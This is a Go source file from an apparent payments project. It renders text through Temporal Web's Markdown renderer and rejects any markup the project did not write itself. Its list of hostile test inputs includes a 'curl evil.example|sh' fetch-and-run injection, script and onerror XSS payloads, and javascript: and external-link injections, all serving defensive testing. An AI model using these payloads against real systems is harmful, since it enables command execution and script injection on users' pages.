// Package markup does with a text of Florin what Temporal Web does on a workflow's page, and finds in the result what Florin did not write:
// links, images, scripts and commands of a caller, an operator or a processor.
package markup

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"

	"github.com/labstack/echo/v4"
	"github.com/temporalio/ui-server/v2/server/route"
	"golang.org/x/net/html"

	"github.com/florinpay/florin/internal/printable"
	"github.com/florinpay/florin/internal/temporalweb"
)

// Hostile are idempotency keys and messages that were commands, links, images or scripts on a workflow's page, or that could be.
var Hostile = []string{
	"{workflowId}'; curl evil.example|sh #'",
	"{workflowId}`<a href=https:evil.example>click",
	"{workflowId}`![x](https:evil.example)<script>alert(1)",
	"{{namespace}}{runId}{work{namespace}flowId}$&$`$'",
	"`starter void --payment-id pay_1`",
	"</code><img src=x onerror=alert(1)>[x](javascript:alert(1))",
	"https:\\\\evil.example mailto:a@evil.example <https:evil.example> &lt;b&gt; &#123;runId&#125;",
	"# - 1. *b* _i_ ~~s~~ $m$ [^1]: x | y ^s^ : d !!! \\` \\\\` \\",
}

// command is a command line that a page may name.
var command = regexp.MustCompile(`^starter (` +
	`(capture|void) --payment-id pay_ID|lookup --(payment-id pay|refund-id ref)_ID|refund --payment-id pay_ID --key …|` +
	`resolve --(payment-id pay|refund-id ref)_ID --status succeeded\|failed --by … --evidence …|` +
	`divergences acknowledge div_ID --by …)$`)

var derivedID = regexp.MustCompile(`_[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}`)

// Foreign returns an error if Temporal Web shows a text of Florin, on the page of the workflow, with markup of others: anything that
// Florin does not write itself.
func Foreign(text, workflowID string) error {
	if replaced := withPageValues(text, workflowID); replaced != text {
		return fmt.Errorf("Temporal Web replaces a value: %q", replaced) //nolint:staticcheck // a name
	}
	page, err := render(text)
	if err != nil {
		return err
	}
	for node := range page.Descendants() {
		if !isFlorins(node) {
			return fmt.Errorf("foreign markup %q %v of the text %q", node.Data, node.Attr, text)
		}
	}
	return nil
}

// isFlorins reports whether Florin writes such a node: text on lines that are printable, a link to the runbook, a command line of its own.
func isFlorins(node *html.Node) bool {
	switch {
	case node.Type == html.TextNode && node.Parent.Data == "code":
		return IsCode(node.Data)
	case node.Type == html.TextNode:
		return printable.IsClean(strings.NewReplacer("\n", "", "\t", "").Replace(node.Data))
	case node.Type == html.ElementNode && node.Data == "a":
		return strings.HasPrefix(attribute(node, "href"), temporalweb.Runbook)
	default:
		return node.Type == html.ElementNode && len(node.Attr) == 0 &&
			slices.Contains([]string{"p", "ul", "li", "strong", "em", "code"}, node.Data)
	}
}

// IsCode reports whether Florin writes such a code span: one word, or a command line of its own.
func IsCode(text string) bool {
	return !strings.ContainsAny(text, " \t\n") || command.MatchString(derivedID.ReplaceAllString(text, "_ID"))
}

func attribute(node *html.Node, name string) string {
	for _, a := range node.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// withPageValues does what Temporal Web does before it renders a text: JavaScript's replace with the values of the page's address. The
// function is in the chunk of its assets that has "/render".
func withPageValues(text, workflowID string) string {
	for _, value := range [][2]string{{"{namespace}", "default"}, {"{workflowId}", workflowID}, {"{runId}", "0198c0de-0000-7000-8000-000000000000"}} {
		text = javaScriptReplace(text, value[0], value[1])
	}
	return text
}

// javaScriptReplace replaces each match, with the patterns $$, $&, $` and $' that JavaScript knows in a replacement.
func javaScriptReplace(text, match, replacement string) string {
	var b strings.Builder
	for from := 0; ; {
		i := strings.Index(text[from:], match)
		if i < 0 {
			return b.String() + text[from:]
		}
		at := from + i
		b.WriteString(text[from:at])
		b.WriteString(strings.NewReplacer("$$", "$", "$&", match, "$`", text[:at], "$'", text[at+len(match):]).Replace(replacement))
		from = at + len(match)
	}
}

// renderer is the part of Temporal Web's server that renders Markdown.
var renderer = func() http.Handler {
	e := echo.New()
	route.SetRenderRoute(e, "")
	return e
}()

// render returns the element in which Temporal Web shows a text.
func render(text string) (*html.Node, error) {
	recorder := httptest.NewRecorder()
	target := "/render?" + url.Values{"content": {text}}.Encode()
	renderer.ServeHTTP(recorder, httptest.NewRequestWithContext(context.Background(), http.MethodGet, target, nil))
	page, err := html.Parse(recorder.Body)
	if err != nil || recorder.Code != http.StatusOK {
		return nil, fmt.Errorf("rendering %q: HTTP %d: %w", text, recorder.Code, err)
	}
	for node := range page.Descendants() {
		if node.Type == html.ElementNode && node.Data == "main" {
			return node, nil
		}
	}
	return nil, fmt.Errorf("the page has no element main for %q", text)
}
